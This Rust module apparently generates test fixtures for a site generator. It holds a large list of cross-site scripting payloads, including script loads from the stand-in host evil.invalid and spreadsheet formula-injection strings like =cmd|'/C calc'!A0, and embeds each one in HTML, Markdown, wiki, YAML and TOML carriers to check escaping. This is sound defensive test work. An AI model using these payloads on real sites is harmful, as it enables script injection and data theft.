//! Sources that would run something: what they would run, and where they hide it.

use super::Folder;
use std::path::Path;

/// What would run in a page that lets it through. All of them call `alert`, or ask for something of `evil.invalid`.
pub const PAYLOADS: &[&str] = &[
    // Scripts, in all spellings.
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\n>",
    "<script/src=//evil.invalid/a.js></script>",
    "<script\x0Ctype=module>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript></xmp></iframe></template><script>alert(1)</script>",
    "<script src=\"data:text/javascript,alert(1)\"></script>",
    "<script type=\"application/ld+json\"></script><script>alert(1)</script>",
    "]]></script><![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><?php alert(1) ?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e \"<script>alert(1)</script>\">]>&e;",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!-<script>alert(1)</script>->",
    // Handlers of events.
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x:x onerror\x0C=\x0Calert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<p onmouseover=alert(1) onclick=alert(1) tabindex=1 onfocus=alert(1) autofocus>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b style=\"animation-name:x\" onanimationstart=alert(1)>x</b>",
    "<a href=x onfocus=alert(1) accesskey=x autofocus>x</a>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    // Out of an attribute.
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "&quot;><script>alert(1)</script>",
    "&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\\"><script>alert(1)</script>",
    "x\" autofocus onfocus=\"alert(1)\" y=\"",
    // Addresses that run.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script&colon;alert(1)",
    "java&#10;script:alert(1)",
    "&#106;&#x61;vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript://evil.invalid/%0Aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.invalid/",
    "\\\\evil.invalid\\",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    // What brings another document, a style or an address along.
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object><embed src=\"javascript:alert(1)\">",
    "<frameset onload=alert(1)><frame src=//evil.invalid/></frameset>",
    "<applet code=x></applet><portal src=//evil.invalid/></portal>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.invalid/\">",
    "<base href=\"javascript:alert(1)//\"><base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/a.css><link rel=import href=//evil.invalid/>",
    "<style>@import '//evil.invalid/a.css'; p { background: url(javascript:alert(1)) }</style>",
    "<p style=\"background:url(//evil.invalid/a.png);width:expression(alert(1));-moz-binding:url(//evil.invalid/)\">x</p>",
    "<table background=//evil.invalid/a.png><td background=\"javascript:alert(1)\">x</table>",
    "<img src=//evil.invalid/a.png srcset=\"//evil.invalid/b.png 2x\" lowsrc=//evil.invalid/c.png>",
    "<img src=x ping=//evil.invalid/><a href=a ping=//evil.invalid/>x</a>",
    // Other namespaces, and what parsers take for another thing the second time.
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/></svg>",
    "<math href=\"javascript:alert(1)\"><mtext>x</mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>",
    // Other spellings of brackets, and what templates would do.
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "\u{BC}script\u{BE}alert(1)\u{BC}/script\u{BE}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&LT;script&GT;alert&lpar;1&rpar;&LT;&sol;script&GT;",
    "{{ constructor.constructor('alert(1)')() }} {% raw %} ${alert(1)} #{alert(1)} <%= alert(1) %>",
    "\u{202E}<script>alert(1)</script>\u{2066}",
    "<\u{200B}script>alert(1)</script>",
    "=HYPERLINK(\"//evil.invalid/\",\"x\")",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    // Markdown.
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>) ![x](javascript:alert(1) 'y\" onerror=\"alert(1)')",
    "[x][r]\n\n[r]: javascript:alert(1) \"x\\\" onmouseover=\\\"alert(1)\"",
    "<javascript:alert(1)> <data:text/html,x> ``<script>alert(1)</script>",
    "![x](//evil.invalid/a.png) [![y](x)](data:text/html,<script>alert(1)</script>)",
    "<div\nonclick=\"alert(1)\">\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>",
    "```\"><script>alert(1)</script>\nx\n```",
    "[^\"><script>alert(1)</script>] x[^\"><script>alert(1)</script>]: <script>alert(1)</script>",
];

/// A string of TOML, and of YAML: a JSON string is both, but for the control characters that neither has.
fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

/// A text in which a payload stands wherever its format lets it, by the name of its carrier.
fn carriers(payload: &str) -> [(&'static str, String); 5] {
    let line = payload.replace('\n', " ");
    let yaml = quoted(payload);
    [
        (
            "dump",
            format!(
                "[<p>港口在北方{payload}堤防在南方\n</p>, <p id=\"{payload}\" class='{payload}'>完工</p>, <p><a href=\"{payload}\" title={payload}>乙</a><span lang=\"{payload}\">丙</span></p>, <h2 id='{payload}'>{payload}</h2>, <p>丁</p>]"
            ),
        ),
        ("flat", format!("港口在北方{payload}堤防在1907年5月南方完工，美軍陣亡255人。\n\n{payload}\n\n堤防在南方。\n")),
        (
            "wiki",
            format!("항구는 북쪽에 있다. {line}\n\n== {line} ==\n미군 255명이 1950년 6월 25일 {line} 전사하였다.\n"),
        ),
        (
            "md",
            format!(
                "# {line}\n\n{payload}\n\nBut {line} it is.\n\n## A {{#{line}}}\n\n[a]({line}) [b](<{line}>) ![c]({line} \"{line}\") `{line}` **{line}**[^1]\n\n| {line} | b |\n|---|---|\n| {line} | 255 killed |\n\n- {line}\n\n> {line}\n\n    {line}\n\n[^1]: {line}\n"
            ),
        ),
        (
            "front",
            format!(
                "---\ntitle: {yaml}\nauthor: {yaml}\nurl: {yaml}\nlicense: {yaml}\nrevision: {yaml}\ndate: {yaml}\n---\n\nThe pier stands in the sea; 255 soldiers were killed on 3 May 1911.\n"
            ),
        ),
    ]
}

/// A work in which a payload stands in everything that editors write beside a text.
fn manifest(folder: &Folder, work: &str, payload: &str) {
    let own = quoted(payload).replace('\u{7F}', "");
    let entry = |source: &str, id: &str| {
        format!(
            "[[edition]]\nsource = \"{source}\"\nlang = \"en\"\nid = \"{id}\"\nlabel = {own}\ntitle = {own}\nurl = {own}\nlicense = {own}\nauthor = {own}\ndate = {own}\nrevision = {own}\n"
        )
    };
    let entries = [entry("a.txt", "current"), entry("b.txt", "earlier")].concat();
    let text = "The pier stands in the sea. The Harbour Guard lost 255 killed in May 1911.\n\nThe lamp is lit.\n";
    let files = [
        ("work.toml", format!("license = {own}\n[title]\nen = {own}\n[description]\nen = {own}\n{entries}")),
        ("a.txt", text.to_owned()),
        ("b.txt", text.replace("lamp", "light")),
        ("a.outline.toml", format!("[[section]]\nid = {own}\ntitle = {own}\nstarts = \"The lamp\"\n")),
        ("a.casualties.toml", format!("[[claim]]\nquote = \"lost 255 killed\"\nclaimant = {own}\nnote = {own}\n")),
        ("terms.toml", format!("[[term]]\nid = \"t\"\nkind = \"place\"\nen = [\"pier\", {own}]\nko = {own}\n")),
    ];
    files.iter().for_each(|(name, text)| folder.write(&format!("content/{work}/{name}"), text));
}

/// Whether a file system and the program take a payload for a name.
fn is_name(payload: &str) -> bool {
    let part = Path::new(payload).components().count() == 1 && !payload.contains(['/', '\\', '.']);
    let control = |c: char| c.is_control() || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}');
    part && !payload.contains(control) && payload.len() < 150
}

/// Writes a site of all payloads in all carriers, with sources in numbers: how many there are.
pub fn write(folder: &Folder) -> usize {
    let mut sources = 0;
    let mut add = |path: String, text: &str| {
        folder.write(&path, text);
        sources += 1;
    };
    for (at, payload) in PAYLOADS.iter().enumerate() {
        for (carrier, text) in carriers(payload) {
            add(format!("content/{carrier}-{at}/a.txt"), &text);
        }
        if cfg!(unix) && is_name(payload) {
            add(
                format!("content/{payload}/{payload}.md"),
                "# The pier\n\nThe pier stands in the sea.\n\n## Oak\n\nIt is oak.\n",
            );
        }
    }
    for (at, payload) in PAYLOADS.iter().enumerate() {
        manifest(folder, &format!("plan-{at}"), payload);
        sources += 1;
    }
    let all = quoted(&PAYLOADS.concat()).replace('\u{7F}', "");
    folder.write(
        "site.toml",
        format!("title = {all}\ndescription = {all}\npublisher = {all}\nlicense = {all}\nlanguages = [\"en\"]\n"),
    );
    sources
}
